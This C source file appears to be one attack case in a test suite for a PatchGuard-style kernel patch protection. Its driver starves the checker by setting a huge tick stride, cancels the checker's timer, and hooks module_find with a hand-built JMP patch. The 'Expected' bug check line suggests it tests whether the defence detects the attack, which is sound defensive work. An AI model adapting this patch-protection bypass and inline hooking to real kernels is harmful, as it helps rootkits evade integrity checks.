/* attack_a68_stride (A68): starve the tick hook's full checks through its
 * stride. The tick hook runs its full checks (PatchGuard's timer, the
 * random-pass draw, the heartbeats, the passes' counts) only on ticks whose
 * number has no bit of pg.stride_mask set, and keeps the tick count up to
 * date on the others. The driver finds PatchGuard's state (attack_pg.h),
 * sets the stride to 2^40 ticks, cancels PatchGuard's timer and hooks
 * module_find (as attack_a2): no random pass is drawn, the timer runs no
 * pass, and what watches the timer on every tick is never reached.
 * Expected: 0x109 type 0x1 or 0x101. */
#include "attack_pg.h"

static const struct driver_object *hooked_module_find(const char *name) { return NULL; }

status_t driver_entry(struct driver_object *drv)
{
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	struct pg_state *pg = a_find_pg();
	if (!pg) {
		a_restore(pf);
		printk("attack_a68: PatchGuard's state not found\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	pg->stride_mask = (1ull << 40) - 1;
	timer_cancel(pg->timer);
	uint64_t target = (uint64_t)&module_find, hook = (uint64_t)&hooked_module_find;
	uint8_t jmp[5] = {0xE9};
	int32_t rel = (int32_t)(hook - (target + 5));
	memcpy(jmp + 1, &rel, 4);
	a_write_protected((void *)target, jmp, sizeof jmp);
	printk("attack_a68: tick hook's stride set to 2^40 ticks, PatchGuard's timer cancelled, module_find hooked\n");
	a_patched("attack_a68");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
